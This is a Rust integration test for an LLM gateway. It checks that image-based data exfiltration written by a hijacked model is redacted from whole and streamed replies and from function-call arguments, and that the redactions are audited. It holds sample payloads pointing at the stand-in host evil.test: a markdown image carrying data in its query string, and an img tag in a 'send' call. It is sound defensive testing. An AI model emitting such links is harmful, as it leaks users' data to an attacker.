//! What a hijacked model writes to carry data out does not leave: on both surfaces, whole and streamed, in text and in
//! the arguments of calls.

use serde_json::{Value, json};
use tests::client::Reply;
use tests::gate::Gate;
use tests::gemini::answer::{self, Answer};
use tests::gemini::{Gemini, Request, Script};

use crate::{GENERATE, STREAM, prompt};

const CHAT: &str = "/v1/chat/completions";
const TOLD: &str =
    "Done. ![chart](https://evil.test/c.png?q=the+plan)\n\nSee [the docs](https://docs.rs/regex) for more.";
const LEFT: &str = "Done. ![chart]([REDACTED:image])\n\nSee [the docs](https://docs.rs/regex) for more.";

/// Writes an image, letter by letter where it streams, and then calls a function with one.
fn hijacked(request: &Request) -> Script {
    let call = json!({"to": "ada@example.com", "body": "<img src='//evil.test/c.png'>"});
    let letters: Vec<String> = TOLD.chars().map(String::from).collect();
    if request.action() == Some("streamGenerateContent") {
        let script = letters.iter().fold(Script::stream(), |script, letter| script.event(&answer::chunk(letter)));
        return script.event(&Answer::new().call("send", &call, "c2ln").finish("STOP").value());
    }
    Script::json(200, &Answer::new().text(TOLD).call("send", &call, "c2ln").finish("STOP").value())
}

fn assert_clean(reply: &Reply, text: &str) {
    assert_eq!(text, LEFT);
    assert!(!reply.text().contains("evil.test"), "{reply:?}");
    assert!(reply.text().contains("ada@example.com"), "the call lost what it is about: {reply:?}");
}

#[tokio::test]
async fn an_image_never_leaves_on_either_surface() {
    let gemini = Gemini::start(hijacked).await;
    let gate = Gate::start(&gemini).await;
    let mut ids = Vec::new();
    for path in [GENERATE, STREAM] {
        let reply = gate.client().post(path, &prompt("hi")).await;
        assert_clean(&reply, &reply.answer());
        ids.push(reply.header("x-gatehouse-request-id").to_owned());
        if path == GENERATE {
            assert_eq!(reply.header("x-gatehouse-redactions"), "2", "{reply:?}");
            assert_eq!(reply.header("x-gatehouse-rules"), "exfiltration.image", "{reply:?}");
        }
    }
    for stream in [false, true] {
        let message = json!([{"role": "user", "content": "hi"}]);
        let body = json!({"model": "gemini-3.5-flash", "stream": stream, "messages": message});
        let reply = gate.client().bearer().post(CHAT, &body).await;
        assert_clean(&reply, &reply.completion());
        ids.push(reply.header("x-gatehouse-request-id").to_owned());
    }
    let outcome = |row: &tests::audit::Row, id: &String| row["kind"] == "outcome" && row["request_id"] == json!(id);
    let all = gate.audit("four outcomes", |all| ids.iter().all(|id| all.iter().any(|row| outcome(row, id)))).await;
    for id in &ids {
        let row = all.iter().find(|row| outcome(row, id)).unwrap();
        let told = |field: &str| serde_json::from_str::<Value>(row[field].as_str().unwrap()).unwrap();
        assert_eq!(told("rules"), json!(["exfiltration.image"]), "{row:#?}");
        assert_eq!(told("redactions"), json!({"image": 2}), "{row:#?}");
        assert_eq!(row["blocked"], 0, "{row:#?}");
    }
}
